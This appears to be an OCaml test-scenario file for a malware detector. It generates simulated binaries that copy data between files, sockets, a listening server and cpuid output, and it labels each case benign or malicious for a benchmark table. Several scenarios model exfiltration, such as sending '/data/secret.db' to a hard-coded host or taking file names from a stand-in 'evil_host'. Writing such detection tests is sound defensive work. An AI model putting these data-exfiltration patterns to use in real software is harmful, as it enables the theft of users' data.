open Asm

type name_src =
  | From_argv of int
  | Hardwired of string
  | From_remote

type src =
  | Src_binary
  | Src_file of name_src
  | Src_socket of name_src
  | Src_server  (** accept a connection and read the data from it *)
  | Src_hardware

type dst =
  | Dst_file of name_src
  | Dst_socket of name_src
  | Dst_server  (** accept a connection and write the data to it *)

let group = "table6"

let ctrl_port = 4000
let data_port = 7000
let sink_port = 9000
let serve_port = 5555

let payload = "SECRET-PAYLOAD-0123456789abcdef!"
let net_data = "net-data-from-remote-peer-bytes!"
let file_data = "file-data-contents-0123456789ab!"
let attacker_data = "attacker-sent-commands-bytes-32!"

(* ------------------------------------------------------------------ *)
(* Program generator                                                   *)

let gen ~prog ~src ~dst =
  let uses_ghbn =
    (match src with Src_socket _ -> true | _ -> false)
    || (match dst with Dst_socket _ -> true | _ -> false)
  in
  let needed = if uses_ghbn then [ Libc.path ] else [] in
  let u =
    create ~needed ~path:prog ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  bytes_ u "payload" payload;
  space u "argp1" 4;
  space u "argp2" 4;
  space u "rname1" 32;
  space u "rname2" 32;
  space u "sfd" 4;
  space u "dfd" 4;
  space u "cfd" 4;
  space u "tfd" 4;
  space u "sa_src" 4;
  space u "sa_dst" 4;
  space u "dlen" 4;
  let remote_used = ref false in
  let ensure_ctrl () =
    if not !remote_used then begin
      remote_used := true;
      Runtime.static_sockaddr u "ctrl_sa" ~ip:(snd Common.evil_host)
        ~port:ctrl_port
    end
  in
  let fetch_remote rlabel =
    ensure_ctrl ();
    Runtime.sys_socket u;
    movl u (mlbl "tfd") eax;
    Runtime.sys_connect u ~fd:(mlbl "tfd") ~addr:(lbl "ctrl_sa");
    Runtime.sys_recv u ~fd:(mlbl "tfd") ~buf:(lbl rlabel) ~len:(imm 31);
    Runtime.sys_close u ~fd:(mlbl "tfd")
  in
  let rlabel_of tag = if String.equal tag "src" then "rname1" else "rname2" in
  let file_name_arg tag = function
    | From_argv n -> mlbl (Fmt.str "argp%d" n)
    | Hardwired s ->
      let l = "hname_" ^ tag in
      asciz u l s;
      lbl l
    | From_remote ->
      let l = rlabel_of tag in
      fetch_remote l;
      lbl l
  in
  let sockaddr_for tag ns ~at ~port =
    let name_arg =
      match ns with
      | From_argv n -> mlbl (Fmt.str "argp%d" n)
      | Hardwired host ->
        let l = "hhost_" ^ tag in
        asciz u l host;
        lbl l
      | From_remote ->
        let l = rlabel_of tag in
        fetch_remote l;
        lbl l
    in
    pushl u name_arg;
    call u "gethostbyname";
    addl u esp (imm 4);
    testl u eax eax;
    jz u "__fail";
    Runtime.build_sockaddr ~at u ~ip_src:eax ~port:(imm port);
    movl u (mlbl ("sa_" ^ tag)) eax
  in
  let accept_server () =
    Runtime.static_sockaddr u "listen_sa" ~ip:Hth.Session.localhost_ip
      ~port:serve_port;
    Runtime.sys_socket u;
    movl u (mlbl "dfd") eax;
    Runtime.sys_bind u ~fd:(mlbl "dfd") ~addr:(lbl "listen_sa");
    Runtime.sys_listen u ~fd:(mlbl "dfd");
    Runtime.sys_accept u ~fd:(mlbl "dfd");
    movl u (mlbl "cfd") eax
  in
  label u "_start";
  Runtime.save_argv u 1 "argp1";
  Runtime.save_argv u 2 "argp2";
  (* acquire the data *)
  (match src with
   | Src_binary -> movl u (mlbl "dlen") (imm (String.length payload))
   | Src_file ns ->
     let p = file_name_arg "src" ns in
     Runtime.sys_open u ~path:p ~flags:Osim.Abi.o_rdonly;
     movl u (mlbl "sfd") eax;
     Runtime.sys_read u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax;
     Runtime.sys_close u ~fd:(mlbl "sfd")
   | Src_socket ns ->
     sockaddr_for "src" ns ~at:32 ~port:data_port;
     Runtime.sys_socket u;
     movl u (mlbl "sfd") eax;
     Runtime.sys_connect u ~fd:(mlbl "sfd") ~addr:(mlbl "sa_src");
     Runtime.sys_recv u ~fd:(mlbl "sfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax;
     Runtime.sys_close u ~fd:(mlbl "sfd")
   | Src_server ->
     accept_server ();
     Runtime.sys_recv u ~fd:(mlbl "cfd") ~buf:(lbl "__buf") ~len:(imm 64);
     movl u (mlbl "dlen") eax
   | Src_hardware ->
     cpuid u;
     movl u (mlbl "__buf") eax;
     movl u (mlbl ~off:4 "__buf") ebx;
     movl u (mlbl ~off:8 "__buf") ecx;
     movl u (mlbl ~off:12 "__buf") edx;
     movl u (mlbl "dlen") (imm 16));
  let data_ptr =
    match src with Src_binary -> lbl "payload" | _ -> lbl "__buf"
  in
  (* deliver it *)
  (match dst with
   | Dst_file ns ->
     let p = file_name_arg "dst" ns in
     Runtime.sys_open u ~path:p
       ~flags:Osim.Abi.(o_creat lor o_wronly lor o_trunc);
     movl u (mlbl "dfd") eax;
     Runtime.sys_write u ~fd:(mlbl "dfd") ~buf:data_ptr ~len:(mlbl "dlen");
     Runtime.sys_close u ~fd:(mlbl "dfd")
   | Dst_socket ns ->
     sockaddr_for "dst" ns ~at:44 ~port:sink_port;
     Runtime.sys_socket u;
     movl u (mlbl "dfd") eax;
     Runtime.sys_connect u ~fd:(mlbl "dfd") ~addr:(mlbl "sa_dst");
     Runtime.sys_send u ~fd:(mlbl "dfd") ~buf:data_ptr ~len:(mlbl "dlen")
   | Dst_server ->
     accept_server ();
     Runtime.sys_send u ~fd:(mlbl "cfd") ~buf:data_ptr ~len:(mlbl "dlen"));
  Runtime.sys_exit u 0;
  label u "__fail";
  Runtime.sys_exit u 2;
  hlt u;
  finalize u

(* ------------------------------------------------------------------ *)
(* Scenario wrapper                                                    *)

let user_src_file = "/home/user/input.txt"
let hard_src_file = "/data/secret.db"
let remote_src_file = "/tmp/fetched.txt"
let user_dst_file = "/home/user/out.txt"
let hard_dst_file = "/tmp/.hidden"
let remote_dst_file = "/tmp/rdrop"

let send_actor host payload : Osim.Net.actor =
  { actor_host = host; script = [ Osim.Net.Send payload; Osim.Net.Close ] }

let passive_actor host : Osim.Net.actor = { actor_host = host; script = [] }

let setup ~src ~dst =
  let prog = "/bin/flow" in
  let image = gen ~prog ~src ~dst in
  (* argv slots: 1 = source name if user-given, 2 = destination name *)
  let argv1 =
    match src with
    | Src_file (From_argv _) -> user_src_file
    | Src_socket (From_argv _) -> fst Common.data_host
    | _ -> "-"
  in
  let argv2 =
    match dst with
    | Dst_file (From_argv _) -> user_dst_file
    | Dst_socket (From_argv _) -> fst Common.sink_host
    | _ -> "-"
  in
  (* the control server supplies whichever name is remote *)
  let remote_payload =
    match src, dst with
    | Src_file From_remote, _ -> Some (remote_src_file ^ "\000")
    | Src_socket From_remote, _ -> Some (fst Common.data_host ^ "\000")
    | _, Dst_file From_remote -> Some (remote_dst_file ^ "\000")
    | _, Dst_socket From_remote -> Some (fst Common.sink_host ^ "\000")
    | _ -> None
  in
  let files =
    match src with
    | Src_file ns ->
      let path =
        match ns with
        | From_argv _ -> user_src_file
        | Hardwired s -> s
        | From_remote -> remote_src_file
      in
      [ path, file_data ]
    | _ -> []
  in
  let servers =
    (match remote_payload with
     | Some p ->
       [ fst Common.evil_host, ctrl_port,
         send_actor (fst Common.evil_host) p ]
     | None -> [])
    @ (match src with
       | Src_socket _ ->
         [ fst Common.data_host, data_port,
           send_actor (fst Common.data_host) net_data ]
       | _ -> [])
    @ (match dst with
       | Dst_socket _ ->
         [ fst Common.sink_host, sink_port,
           passive_actor (fst Common.sink_host) ]
       | _ -> [])
  in
  let incoming =
    match src, dst with
    | Src_server, _ ->
      [ serve_port,
        { Osim.Net.actor_host = "attacker";
          script = [ Osim.Net.Send attacker_data ] } ]
    | _, Dst_server -> [ serve_port, passive_actor "attacker" ]
    | _ -> []
  in
  let programs =
    image :: (if List.mem Libc.path image.needed then [ Libc.image () ]
              else [])
  in
  Hth.Session.setup ~programs ~files ~hosts:Common.all_hosts ~servers
    ~incoming
    ~argv:[ prog; argv1; argv2 ]
    ~main:prog ()

let scenario ~name ~descr ~src ~dst ~expected =
  Scenario.define ~name ~group ~descr ~expected (fun () -> setup ~src ~dst)

(* ------------------------------------------------------------------ *)
(* The Table 6 rows                                                    *)

let benign = Scenario.Benign
let low = Scenario.Malicious Secpert.Severity.Low
let high = Scenario.Malicious Secpert.Severity.High

let scenarios =
  [ (* Binary -> File *)
    scenario ~name:"Binary->File: User filename"
      ~descr:"hard-coded payload written to a user-named file"
      ~src:Src_binary ~dst:(Dst_file (From_argv 2)) ~expected:benign;
    scenario ~name:"Binary->File: hardcode filename"
      ~descr:"hard-coded payload written to a hard-coded file"
      ~src:Src_binary ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    scenario ~name:"Binary->File: remote filename"
      ~descr:"hard-coded payload written to a remotely-named file"
      ~src:Src_binary ~dst:(Dst_file From_remote) ~expected:high;
    (* Binary -> Socket *)
    scenario ~name:"Binary->Socket: User address"
      ~descr:"hard-coded payload sent to a user-given host"
      ~src:Src_binary ~dst:(Dst_socket (From_argv 2)) ~expected:benign;
    scenario ~name:"Binary->Socket: Hardcoded address"
      ~descr:"hard-coded payload sent to a hard-coded host"
      ~src:Src_binary ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:low;
    (* File -> File *)
    scenario ~name:"File->File: User input, User Input"
      ~descr:"user-named file copied to a user-named file"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_file (From_argv 2))
      ~expected:benign;
    scenario ~name:"File->File: User input, Hardcoded"
      ~descr:"user-named file copied to a hard-coded file"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:low;
    scenario ~name:"File->File: Hardcoded, User input"
      ~descr:"hard-coded file copied to a user-named file"
      ~src:(Src_file (Hardwired hard_src_file)) ~dst:(Dst_file (From_argv 2))
      ~expected:low;
    scenario ~name:"File->File: Hardcoded, Hardcoded"
      ~descr:"hard-coded file copied to a hard-coded file"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* File -> Socket *)
    scenario ~name:"File->Socket: User input, User Input"
      ~descr:"user-named file sent to a user-given host"
      ~src:(Src_file (From_argv 1)) ~dst:(Dst_socket (From_argv 2))
      ~expected:benign;
    scenario ~name:"File->Socket: User input, Hardcoded"
      ~descr:"user-named file sent to a hard-coded host"
      ~src:(Src_file (From_argv 1))
      ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:low;
    scenario ~name:"File->Socket: Hardcoded, User input"
      ~descr:"hard-coded file sent to a user-given host"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_socket (From_argv 2))
      ~expected:low;
    scenario ~name:"File->Socket: Hardcoded, Hardcoded"
      ~descr:"hard-coded file sent to a hard-coded host"
      ~src:(Src_file (Hardwired hard_src_file))
      ~dst:(Dst_socket (Hardwired (fst Common.sink_host)))
      ~expected:high;
    (* Socket -> File *)
    scenario ~name:"Socket->File: User input, User Input"
      ~descr:"data from a user-given host written to a user-named file"
      ~src:(Src_socket (From_argv 1)) ~dst:(Dst_file (From_argv 2))
      ~expected:benign;
    scenario ~name:"Socket->File: User input, Hardcoded"
      ~descr:"data from a user-given host written to a hard-coded file"
      ~src:(Src_socket (From_argv 1))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:low;
    scenario ~name:"Socket->File: Hardcoded, User input"
      ~descr:"data from a hard-coded host written to a user-named file"
      ~src:(Src_socket (Hardwired (fst Common.data_host)))
      ~dst:(Dst_file (From_argv 2))
      ~expected:low;
    scenario ~name:"Socket->File: Hardcoded, Hardcoded"
      ~descr:"data from a hard-coded host written to a hard-coded file"
      ~src:(Src_socket (Hardwired (fst Common.data_host)))
      ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* Hardware -> File *)
    scenario ~name:"Hardware->File: User filename"
      ~descr:"cpuid output written to a user-named file"
      ~src:Src_hardware ~dst:(Dst_file (From_argv 2)) ~expected:benign;
    scenario ~name:"Hardware->File: Hardcode filename"
      ~descr:"cpuid output written to a hard-coded file"
      ~src:Src_hardware ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high;
    (* Server-mode socket variants *)
    scenario ~name:"File->Socket (server): Hardcoded"
      ~descr:"hard-coded file served to a remote client over a \
              hard-coded listening address"
      ~src:(Src_file (Hardwired hard_src_file)) ~dst:Dst_server
      ~expected:high;
    scenario ~name:"Socket->File (server): Hardcoded"
      ~descr:"data accepted on a hard-coded listening address written to \
              a hard-coded file"
      ~src:Src_server ~dst:(Dst_file (Hardwired hard_dst_file))
      ~expected:high ]
